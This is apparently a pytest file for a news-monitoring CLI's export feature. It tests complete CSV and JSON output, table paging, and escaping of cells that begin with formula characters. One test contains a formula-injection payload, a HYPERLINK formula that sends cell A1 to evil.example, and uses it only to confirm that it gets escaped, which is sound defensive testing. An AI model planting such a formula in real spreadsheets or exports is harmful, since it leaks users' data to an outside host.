"""Exports are complete and safe to open in a spreadsheet; the table says when it pages."""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

from click.testing import CliRunner

from newsmon.cli import cli
from newsmon.csvout import safe_cell
from storage.articles import ArticleRecord, upsert_articles
from storage.db import open_database


def seed_many(db_url: str, count: int) -> None:
    day = datetime(2026, 1, 1)
    with open_database(db_url, migrate=False)() as session, session.begin():
        upsert_articles(session, [
            ArticleRecord(url=f"https://a.example/{i}", fetched_url=f"https://a.example/{i}", source="a",
                          title=f"Article number {i}", language="en", text=f"Body {i} " * 40,
                          published=day + timedelta(days=i))
            for i in range(count)
        ])


def run(*args: str) -> tuple[str, str]:
    result = CliRunner().invoke(cli, ["query", *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout, result.stderr


def test_csv_and_json_exports_hold_every_match_by_default(sqlite_url):
    seed_many(sqlite_url, 73)
    out, err = run("--db", sqlite_url, "--format", "csv")
    assert len(list(csv.DictReader(io.StringIO(out)))) == 73 and err == ""
    out, _ = run("--db", sqlite_url, "--format", "json")
    assert len(json.loads(out)) == 73
    out, _ = run("--db", sqlite_url, "--format", "json", "--limit", "5")
    assert len(json.loads(out)) == 5


def test_the_table_pages_and_says_how_many_matched(sqlite_url):
    seed_many(sqlite_url, 73)
    out, _ = run("--db", sqlite_url)
    assert len(out.splitlines()) == 1 + 50 + 1
    assert "50 of 73 articles shown" in out
    out, _ = run("--db", sqlite_url, "--limit", "0")
    assert "shown" not in out and len(out.splitlines()) == 74
    out, _ = run("--db", sqlite_url, "--limit", "80")
    assert "shown" not in out


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(sqlite_url):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with open_database(sqlite_url, migrate=False)() as session, session.begin():
        upsert_articles(session, [
            ArticleRecord(url="https://a.example/x", fetched_url="https://a.example/x", source="@src",
                          title=evil, language="en", text="Body text " * 40, published=datetime(2026, 1, 1)),
        ])
    out, _ = run("--db", sqlite_url, "--format", "csv")
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["title"] == "'" + evil and row["source"] == "'@src"
    for start in "=+-@\t\r":
        assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell("Plain title") == "Plain title" and safe_cell(-0.5) == -0.5
